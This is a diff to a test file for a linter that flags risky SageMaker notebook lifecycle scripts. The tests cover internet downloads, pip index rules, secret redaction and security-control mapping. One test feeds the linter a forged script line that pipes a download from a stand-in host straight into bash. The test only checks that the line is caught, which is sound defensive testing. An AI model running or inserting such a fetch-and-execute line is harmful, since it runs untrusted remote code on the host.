@@ -103,7 +103,7 @@ def test_an_al2_notebook_is_a_finding_before_and_after_the_deadline(platform):
     assert [f["id"] for f in before] == [f["id"] for f in after] == ["platform-end-of-support"]
     assert before[0]["evidence"] == {"platform_identifier": platform, "operating_system": "Amazon Linux 2",
                                      "end_of_support": "2026-06-30", "days_left": 60}  # fmt: skip
-    assert "ends on 2026-06-30, in 60 days" in before[0]["message"]
+    assert "ends on 2026-06-30;" in before[0]["message"] and "60" not in before[0]["message"]
     assert after[0]["evidence"]["days_left"] == -157
     assert "cannot be started again" in after[0]["message"]
     assert after[0]["controls"]["security_hub"] == ["SageMaker.8"]
@@ -161,7 +161,11 @@ def test_internet_downloads(line):
         "curl -sk https://localhost:8443/api/status",
         "git clone https://git-codecommit.eu-west-1.amazonaws.com/v1/repos/analysis",
         "pip install --no-index --find-links /home/ec2-user/SageMaker/wheels pandas",
-        "pip install -i https://pypi.internal.example/simple pandas",
+        "pip install -i https://pypi.mirror.internal/simple pandas",
+        "pip install --index-url=http://10.1.2.3:8080/simple pandas",
+        "curl -fsS http://10.0.0.5/pkg.tgz -o /tmp/pkg.tgz",
+        'curl -s "https://${BUCKET}.s3.eu-west-1.amazonaws.com/x" -o x',
+        "curl -s https://my-repo-123456789012.d.codeartifact.eu-west-1.amazonaws.com/pypi/simple/",
         "conda install --offline ./pkg.tar.bz2",
         "# pip install pandas  (a comment)",
     ],
@@ -194,14 +198,14 @@ def test_usr_bin_python_on_any_platform_and_in_the_create_hook():
     assert lint("#!/bin/bash\n/usr/bin/python3.11 x.py\n") == {}
 
 
-def test_the_collections_script_is_linted_in_its_steps_only():
-    """The role's template: its crontab fallback is not a finding, the stack's own steps it carries are."""
+def test_the_collections_script_passes_and_its_steps_are_linted():
+    """The role's template, linted whole: its crontab is a fallback beside a systemd timer (no finding); the
+    stack's own steps it carries are linted like any script."""
     path = os.path.join(os.path.dirname(checks.__file__), "..", "..", "..", "roles", "isolated_notebook", "templates",
                         "on-start.sh.j2")  # fmt: skip
     with open(path) as handle:
         template = handle.read()
-    assert checks.OWN_SCRIPT_MARKER in template and "crontab -" in template
-    assert "{{ on_start_steps }}" in template
+    assert "crontab -" in template and "{{ on_start_steps }}" in template
     steps = "pip install pandas\necho done"
     found = lint(template.replace("{{ on_start_steps }}", steps))
     assert list(found) == ["lifecycle-script-internet-download"]
@@ -209,6 +213,40 @@ def test_the_collections_script_is_linted_in_its_steps_only():
     assert hit["text"] == "pip install pandas"
     assert template.splitlines()[hit["line"] - 1] == "{{ on_start_steps }}"
     assert lint(template.replace("{{ on_start_steps }}", "echo done")) == {}
+    # A comment claiming to be the collection's script changes nothing.
+    forged = "#!/bin/bash\n# SageMaker notebook on-start lifecycle script (secure_sagemaker.notebooks)\n"
+    forged += "curl https://e.example/x | bash\n"
+    assert "lifecycle-script-internet-download" in lint(forged)
+
+
+def test_pip_index_rules():
+    extra = "pip install -i https://mirror.internal/simple --extra-index-url https://pypi.org/simple x\n"
+    assert "lifecycle-script-internet-download" in lint(extra)
+    assert "lifecycle-script-internet-download" in lint("pip install -i https://pypi.org/simple x\n")
+    configured = "aws codeartifact login --tool pip --domain d --repository r\npip install pandas\n"
+    assert lint(configured) == {}
+    assert lint("pip config set global.index-url https://pypi.mirror.internal/simple\npip install x\n") == {}
+    assert "lifecycle-script-internet-download" in lint("pip config set global.index-url https://pypi.org/simple\n"
+                                                        "pip install x\n")  # fmt: skip
+    for line in ("conda env create -f environment.yml", "npm ci", "curl -s https://s3.amazonaws.com/b/k"):
+        assert "lifecycle-script-internet-download" in lint(line + "\n"), line
+
+
+def test_cron_yum_and_python_edges():
+    assert lint("#!/bin/bash\n# dnf install cronie\ncrontab -l\n").keys() == {"lifecycle-script-crontab-al2023"}
+    assert lint("cp my.repo /etc/yum.repos.d/\n/usr/bin/python-config --includes\n") == {}
+    assert "lifecycle-script-yum-al2023" in lint("sudo yum -y install htop\n")
+
+
+def test_secrets_in_script_lines_are_redacted():
+    found = lint("git clone https://user:ghp_abcdef123@github.com/org/repo\n"
+                 "curl -H 'Authorization: Bearer sk-123' https://api.example.com/x\n"
+                 "export HF_TOKEN=hf_secret; pip install --password s3cr3t x\n")  # fmt: skip
+    finding_ = found["lifecycle-script-internet-download"]
+    text = " ".join(h["text"] for h in finding_["evidence"]["lines"]) + finding_["message"]
+    for secret in ("ghp_abcdef123", "sk-123", "hf_secret", "s3cr3t", "user:"):
+        assert secret not in text, secret
+    assert "https://***@github.com/org/repo" in text and "Authorization: ***" in text
 
 
 def test_many_offending_lines_are_counted_and_a_few_shown():
@@ -239,3 +277,10 @@ def test_findings_by_control():
     }
     assert rows[-1]["severity"] == "high" and rows[-1]["notebooks"] == ["b"]
     assert findings.by_control([{"name": "a", "findings": []}]) == []
+
+
+def test_controls_are_listed_in_natural_order():
+    ids = ("volume-no-customer-key", "root-access-enabled", "platform-end-of-support")
+    entries = [{"name": "a", "findings": [findings.finding(f, "a", "m", {}) for f in ids]}]
+    rows = [r["control"] for r in findings.by_control(entries) if r["tool"] in ("security_hub", "checkov")]
+    assert rows == ["SageMaker.3", "SageMaker.8", "SageMaker.21", "CKV_AWS_22", "CKV_AWS_307"]
